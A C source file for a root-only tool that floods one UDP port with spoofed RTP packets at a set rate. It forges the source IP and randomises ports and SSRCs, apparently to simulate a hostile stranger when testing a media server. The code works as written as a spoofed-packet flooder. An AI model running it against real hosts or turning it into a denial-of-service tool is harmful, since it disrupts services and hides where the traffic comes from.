/*
 * A stranger who floods one port with forged RTP: evenly paced, from one address and a random port for each packet, by a raw socket,
 * so only for root. Prints how many packets went out a second, when its time is over or it is told to end (SIGTERM).
 *
 *   flood FROM TO PORT RATE MS
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <time.h>

#define PAYLOAD_BYTES 172
#define AT_ONCE_MAX 64

struct packet {
  struct iphdr ip;
  struct udphdr udp;
  uint8_t payload[PAYLOAD_BYTES];
};

static volatile sig_atomic_t is_over;

static void end(int number) {
  (void)number;
  is_over = 1;
}

static int64_t now_ns(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return time.tv_sec * 1000000000LL + time.tv_nsec;
}

int main(int count, char **arguments) {
  static struct packet packets[AT_ONCE_MAX];
  static struct iovec vectors[AT_ONCE_MAX];
  static struct mmsghdr messages[AT_ONCE_MAX];
  struct in_addr from;
  struct sockaddr_in to = {.sin_family = AF_INET};
  if (count != 6 || inet_pton(AF_INET, arguments[1], &from) != 1 || inet_pton(AF_INET, arguments[2], &to.sin_addr) != 1) {
    fputs("flood FROM TO PORT RATE MS\n", stderr);
    return 2;
  }
  int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (fd < 0) {
    fprintf(stderr, "flood: %s\n", strerror(errno));
    return 1;
  }
  prctl(PR_SET_TIMERSLACK, 1);
  signal(SIGTERM, end);
  for (int i = 0; i < AT_ONCE_MAX; i++) {
    packets[i].ip = (struct iphdr){
      .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP, .saddr = from.s_addr, .daddr = to.sin_addr.s_addr,
      .tot_len = htons(sizeof *packets),
    };
    packets[i].udp.dest = htons((uint16_t)atoi(arguments[3]));
    packets[i].udp.len = htons(sizeof packets->udp + PAYLOAD_BYTES);
    packets[i].payload[0] = 0x80;
    vectors[i] = (struct iovec){&packets[i], sizeof packets[i]};
    messages[i].msg_hdr = (struct msghdr){.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &vectors[i], .msg_iovlen = 1};
  }
  double gap_ns = 1e9 / atof(arguments[4]);
  int64_t began_ns = now_ns(), until_ns = began_ns + atol(arguments[5]) * 1000000LL;
  uint64_t sent = 0, chance = 0x2545f4914f6cdd1du;
  for (int64_t at_ns = began_ns; at_ns < until_ns && !is_over; at_ns = now_ns()) {
    int due = 0;
    for (; due < AT_ONCE_MAX && began_ns + (int64_t)((double)(sent + (uint64_t)due) * gap_ns) <= at_ns; due++) {
      /* xorshift64 */
      chance ^= chance << 13, chance ^= chance >> 7, chance ^= chance << 17;
      packets[due].udp.source = htons((uint16_t)(1024 + chance % 64512));
      uint32_t ssrc = (uint32_t)(chance >> 32);
      memcpy(packets[due].payload + 2, &chance, 2);
      memcpy(packets[due].payload + 8, &ssrc, sizeof ssrc);
    }
    if (due > 0) {
      int gone = sendmmsg(fd, messages, (unsigned)due, 0);
      sent += (uint64_t)(gone > 0 ? gone : due);
      continue;
    }
    struct timespec pause = {0, (long)(gap_ns < 1e6 ? gap_ns : 1e6)};
    nanosleep(&pause, NULL);
  }
  printf("%.0f\n", (double)sent * 1e9 / (double)(now_ns() - began_ns));
  return 0;
}
